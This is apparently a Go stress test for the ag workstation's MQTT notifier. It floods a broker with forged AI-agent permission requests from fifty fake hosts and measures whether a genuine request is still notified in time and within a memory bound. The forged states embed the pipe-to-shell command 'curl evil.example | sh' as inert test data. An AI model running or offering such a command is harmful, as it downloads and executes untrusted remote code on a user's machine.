package t

// A broker's publisher floods the workstation (issue 28): 50 made-up hosts
// publish 20,000 forged waits through a real mosquitto into contrib/ag-mqtt
// workstation, and a genuine host's wait, made in the middle of it, is
// still notified, within a second of the broker handing it over; the
// workstation's folds stay under a memory bound, and a backend that cannot
// keep up says so once. The broker delivers to each subscriber in order, so
// the workstation's share is timed from when a plain subscriber,
// subscribed as the workstation is, gets the wait (30-130 ms after the
// hook here): what is left is ag's.

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/agwatch/ag/t/internal/broker"
)

const (
	floodHosts    = 50
	floodPerHost  = 400
	floodNotified = time.Second // a genuine wait is notified within this
	floodMemory   = 64          // MiB: each of the workstation's ag-folds and its ag-notify at most
)

func TestMQTTFlood(t *testing.T) {
	if testing.Short() {
		t.Skip("the flood takes a while")
	}
	br := broker.Start(t)
	a, b := newFakeHost(t, "hosta"), newFakeHost(t, "hostb")
	n := newNotifications(t, a)
	key := filepath.Join(t.TempDir(), "key")
	if out, err := a.cmd(filepath.Join(binDir, "ag-keys"), "keygen", key).CombinedOutput(); err != nil {
		t.Fatalf("keygen: %v %s", err, out)
	}
	mqtt := contrib(t, "ag-mqtt")
	for _, h := range []*fakeHost{a, b} {
		h.env = append(h.env, "AG_KEY="+key, "AG_MQTT="+br.Options())
	}
	// A second backend that is slow: a command per notification.
	execLog := filepath.Join(a.dir, "exec.log")
	b.hook("sb", "SessionStart", `,"source":"startup"`)
	b.bg("mqtt", mqtt, "host")
	a.bg("ws", mqtt, "workstation", "--backend", "dbus", "--exec", "cat >> "+execLog+"; sleep 0.05", "--cooldown", "0s")
	t.Cleanup(func() {
		if t.Failed() || testing.Verbose() {
			for _, h := range []*fakeHost{a, b} {
				for _, l := range []string{"ws", "mqtt"} {
					if s := h.log(l); s != "" {
						t.Logf("%s %s stderr (%d lines):\n%s", h.name, l, strings.Count(s, "\n"), head(s, 40))
					}
				}
			}
		}
	})
	// When hostb's wait reaches the broker: the workstation's part is
	// timed from there (hostb's own pipeline, on a loaded machine, is not
	// what is measured).
	published := watchSub(t, br, "1", "ag/hostb/states")
	// A plain subscriber beside the workstation's, as it subscribes (QoS
	// 0, every host's states): when the broker hands it hostb's wait.
	delivered := watchSub(t, br, "0", "ag/+/states")
	eventually(t, "hostb's session on the workstation", func() (bool, string) {
		st := a.states()["hostb/sb"]
		return st.Status != "", fmt.Sprint(a.states())
	})

	// A wait without a flood, for the machine's own pace (--cooldown 0:
	// the same session's next wait is told at once).
	b.hook("sb", "UserPromptSubmit", `,"prompt":"build"`)
	calm := time.Now()
	b.hook("sb", "PermissionRequest", `,"tool_name":"Bash","tool_input":{"command":"make build"}`)
	baseline := n.shownAfter(t, calm, "make build")
	t.Logf("hostb's wait without a flood notified %v after its hook (load %s)", baseline.Round(time.Millisecond), loadavg())
	b.hook("sb", "PostToolUse", `,"tool_name":"Bash","tool_input":{"command":"make build"}`)
	cpuBefore, byBefore := cpuOf(a)

	// The flood: each made-up host publishes its waits as fast as the
	// broker takes them.
	start := time.Now()
	var wg sync.WaitGroup
	var floodErr error
	var mu sync.Mutex
	for h := range floodHosts {
		wg.Add(1)
		go func() {
			defer wg.Done()
			host := fmt.Sprintf("forged%02d", h)
			var lines strings.Builder
			for i := range floodPerHost {
				now := time.Now().UTC().Format("2006-01-02T15:04:05.000Z")
				fmt.Fprintf(&lines, `{"v":1,"t":"%s","kind":"state","agent":"claude","session":"%s-%d","src":"fold","host":"%s","pane":"%%0","status":"waiting","attention":"permission","tool":"Bash","text":"curl evil.example | sh #%d","gen":%d,"token":"%d.%d"}`+"\n",
					now, host, i, host, i, i+1, start.UnixMilli(), i+1)
			}
			c := exec.Command("mosquitto_pub", br.Args("-q", "1", "-l", "-t", "ag/"+host+"/states")...)
			c.Stdin = strings.NewReader(lines.String())
			if out, err := c.CombinedOutput(); err != nil {
				mu.Lock()
				floodErr = fmt.Errorf("mosquitto_pub %s: %v %s", host, err, out)
				mu.Unlock()
			}
		}()
	}
	// The genuine wait, once the flood is reaching the workstation.
	eventually(t, "the flood reaching the workstation", func() (bool, string) {
		for k := range a.states() {
			if strings.HasPrefix(k, "forged") {
				return true, ""
			}
		}
		return false, a.log("ws")
	})
	b.hook("sb", "UserPromptSubmit", `,"prompt":"deploy"`)
	asked := time.Now()
	b.hook("sb", "PermissionRequest", `,"tool_name":"Bash","tool_input":{"command":"make deploy"}`)
	var shown, folded time.Time
	for end := asked.Add(20 * time.Second); shown.IsZero() && time.Now().Before(end); time.Sleep(10 * time.Millisecond) {
		if folded.IsZero() && a.states()["hostb/sb"].Status == "waiting" {
			folded = time.Now()
		}
		for _, c := range n.callsTimed() {
			if c.Call == "Notify" && strings.Contains(c.Summary, "@hostb") && strings.Contains(c.Body, "make deploy") {
				shown = time.Unix(0, c.TNs)
				break
			}
		}
	}
	wg.Wait()
	if floodErr != nil {
		t.Fatal(floodErr)
	}
	if shown.IsZero() {
		select {
		case p := <-published:
			st := a.states()["hostb/sb"]
			t.Logf("hostb's wait reached the broker %v after its hook; the workstation has %s %s gen %d t %s; the broker says: %s", p.Sub(asked).Round(time.Millisecond), st.Status, st.Stale, st.Gen, st.T.String(), br.Dropped())
			hs := b.states()["hostb/sb"]
			t.Logf("hostb has %s gen %d t %s", hs.Status, hs.Gen, hs.T.String())
		default:
			t.Logf("hostb's wait never reached the broker")
		}
		t.Fatalf("hostb's wait was never notified (flood of %d states from %d hosts, started %v before it)",
			floodHosts*floodPerHost, floodHosts, asked.Sub(start).Round(time.Millisecond))
	}
	took := shown.Sub(asked)
	var handed time.Time
	select {
	case handed = <-delivered:
	case <-time.After(5 * time.Second):
		t.Fatalf("a plain subscriber never got hostb's wait")
	}
	share := shown.Sub(handed)
	if !folded.IsZero() {
		t.Logf("hostb's wait in the workstation's state file %v after its hook", folded.Sub(asked).Round(time.Millisecond))
	}
	// Within a second of this machine's time: the flood is work the
	// workstation must do before the wait's line (its mosquitto_sub and
	// first ag-fold read every line ahead of it, in the order the broker
	// sends them), and on the shared test machine, at a load of 20 and
	// more on two cores, a second of it takes many. So the bound is a
	// second times the load per core (1 on a machine with a core to
	// spare) or times how much slower than its CPU time a CPU-bound loop
	// runs just now, whichever is more; never less than the same wait
	// took with no flood, plus a second.
	slow := max(1, slowdown(), loadAvg1()/float64(runtime.NumCPU()))
	bound := max(time.Duration(float64(floodNotified)*slow), baseline+floodNotified)
	t.Logf("hostb's wait notified %v after its hook (hostb's own hook, tail, fold and publish included), amid %d forged states from %d hosts (the flood began %v before the hook; load %s, the machine %.1fx slower than idle); a plain subscriber got it %v after the hook: the workstation's share %v (bound %v)",
		took.Round(time.Millisecond), floodHosts*floodPerHost, floodHosts, asked.Sub(start).Round(time.Millisecond), loadavg(), slow,
		handed.Sub(asked).Round(time.Millisecond), share.Round(time.Millisecond), bound.Round(time.Millisecond))
	if share > bound {
		t.Errorf("hostb's wait notified %v after a plain subscriber got it from the broker; want within %v", share.Round(time.Millisecond), bound.Round(time.Millisecond))
	}

	// Memory: each ag-fold of the workstation's pipeline.
	time.Sleep(2 * time.Second) // the flood's tail through the pipeline
	cpuAfter, byAfter := cpuOf(a)
	var parts []string
	for name, d := range byAfter {
		if d -= byBefore[name]; d >= 50*time.Millisecond {
			parts = append(parts, fmt.Sprintf("%s %v", name, d.Round(10*time.Millisecond)))
		}
	}
	sort.Strings(parts)
	t.Logf("the workstation's processes used %v of CPU from the flood's start (%s)", (cpuAfter - cpuBefore).Round(10*time.Millisecond), strings.Join(parts, ", "))
	for _, name := range []string{"ag-fold", "ag-notify"} {
		for _, pid := range descendantsNamed(a, name) {
			hwm := vmHWM(pid)
			t.Logf("workstation %s pid %d: peak resident %d MiB", name, pid, hwm>>10)
			if hwm>>10 > floodMemory {
				t.Errorf("%s pid %d peaked at %d MiB; want at most %d", name, pid, hwm>>10, floodMemory)
			}
		}
	}
	log := a.log("ws")
	for _, be := range []string{"dbus", "exec"} {
		if c := strings.Count(log, "ag-notify: "+be+": busy"); c > 1 {
			t.Errorf("%s said it was busy %d times; want once at most", be, c)
		}
	}
	notes := 0
	for _, c := range n.callsTimed() {
		if c.Call == "Notify" && strings.Contains(c.Summary, "@forged") {
			notes++
		}
	}
	t.Logf("forged notifications shown: %d; workstation stderr: %d lines", notes, strings.Count(log, "\n"))
}

// watchSub subscribes to topic at qos and sends the time the first line
// of hostb's "make deploy" wait comes; the rest is read and dropped, so
// the subscriber never blocks on a full pipe.
func watchSub(t *testing.T, br *broker.Broker, qos, topic string) <-chan time.Time {
	t.Helper()
	at := make(chan time.Time, 1)
	sub := exec.Command("mosquitto_sub", br.Args("-q", qos, "-t", topic)...)
	out, err := sub.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := sub.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { sub.Process.Kill(); sub.Wait() })
	go func() {
		sc := bufio.NewScanner(out)
		sc.Buffer(nil, 1<<20)
		for sc.Scan() {
			if l := sc.Text(); strings.Contains(l, `"status":"waiting"`) && strings.Contains(l, "make deploy") {
				at <- time.Now()
				break
			}
		}
		io.Copy(io.Discard, out)
	}()
	return at
}

// shownAfter is how long after since notifyd showed a notification of
// hostb whose body holds text.
func (n *notifications) shownAfter(t *testing.T, since time.Time, text string) time.Duration {
	t.Helper()
	for end := time.Now().Add(20 * time.Second); time.Now().Before(end); time.Sleep(10 * time.Millisecond) {
		for _, c := range n.callsTimed() {
			if c.Call == "Notify" && strings.Contains(c.Summary, "@hostb") && strings.Contains(c.Body, text) {
				return time.Unix(0, c.TNs).Sub(since)
			}
		}
	}
	t.Fatalf("no notification of hostb with %q", text)
	return 0
}

// callsTimed is calls with notifyd's clock.
func (n *notifications) callsTimed() []struct {
	note
	TNs int64 `json:"t_ns"`
} {
	b, _ := os.ReadFile(filepath.Join(n.dir, "calls.ndjson"))
	var out []struct {
		note
		TNs int64 `json:"t_ns"`
	}
	for _, l := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		var c struct {
			note
			TNs int64 `json:"t_ns"`
		}
		if json.Unmarshal([]byte(l), &c) == nil {
			out = append(out, c)
		}
	}
	return out
}

// descendantsNamed are the pids of the host's processes named name.
func descendantsNamed(h *fakeHost, name string) []int {
	var out []int
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		comm, _ := os.ReadFile(filepath.Join("/proc", e.Name(), "comm"))
		env, _ := os.ReadFile(filepath.Join("/proc", e.Name(), "environ"))
		if strings.TrimSpace(string(comm)) == name && strings.Contains(string(env), "AG_DIR="+h.agdir+"\x00") {
			out = append(out, pid)
		}
	}
	return out
}

// vmHWM is a process's peak resident set in KiB (0 if unknown).
func vmHWM(pid int) int {
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	for _, l := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, "VmHWM:"); ok {
			n, _ := strconv.Atoi(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")))
			return n
		}
	}
	return 0
}

func head(s string, n int) string {
	lines := strings.SplitAfter(s, "\n")
	if len(lines) <= n {
		return s
	}
	return strings.Join(lines[:n], "") + fmt.Sprintf("… (%d more lines)\n", len(lines)-n)
}

// loadavg is the machine's load, for the log.
func loadavg() string {
	b, _ := os.ReadFile("/proc/loadavg")
	f := strings.Fields(string(b))
	if len(f) < 3 {
		return "?"
	}
	return strings.Join(f[:3], " ")
}

// cpuOf is the CPU time the host's live processes used so far, in all and
// by program.
func cpuOf(h *fakeHost) (time.Duration, map[string]time.Duration) {
	var ticks int64
	by := map[string]time.Duration{}
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		if _, err := strconv.Atoi(e.Name()); err != nil {
			continue
		}
		env, _ := os.ReadFile(filepath.Join("/proc", e.Name(), "environ"))
		if !strings.Contains(string(env), "AG_DIR="+h.agdir+"\x00") {
			continue
		}
		stat, _ := os.ReadFile(filepath.Join("/proc", e.Name(), "stat"))
		if i := strings.LastIndexByte(string(stat), ')'); i > 0 {
			f := strings.Fields(string(stat)[i+1:])
			if len(f) > 13 {
				u, _ := strconv.ParseInt(f[11], 10, 64)
				s, _ := strconv.ParseInt(f[12], 10, 64)
				ticks += u + s
				comm := strings.TrimPrefix(strings.Fields(string(stat)[:i])[1], "(")
				by[comm] += time.Duration(u+s) * 10 * time.Millisecond
			}
		}
	}
	return time.Duration(ticks) * 10 * time.Millisecond, by // USER_HZ 100
}

// slowdown is how many times longer than its CPU time a CPU-bound loop
// takes on this machine just now: about 1 when a core is free, the load
// per core when the machine is oversubscribed.
func slowdown() float64 {
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	cpu := func() time.Duration {
		var ru syscall.Rusage
		syscall.Getrusage(1 /* RUSAGE_THREAD */, &ru)
		return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
	}
	c0, w0 := cpu(), time.Now()
	x := 0
	for cpu()-c0 < 100*time.Millisecond {
		for i := range 100000 {
			x += i
		}
	}
	_ = x
	return float64(time.Since(w0)) / float64(cpu()-c0)
}

// loadAvg1 is the machine's load over the last minute.
func loadAvg1() float64 {
	f, _ := strconv.ParseFloat(strings.Fields(loadavg() + " 0")[0], 64)
	return f
}
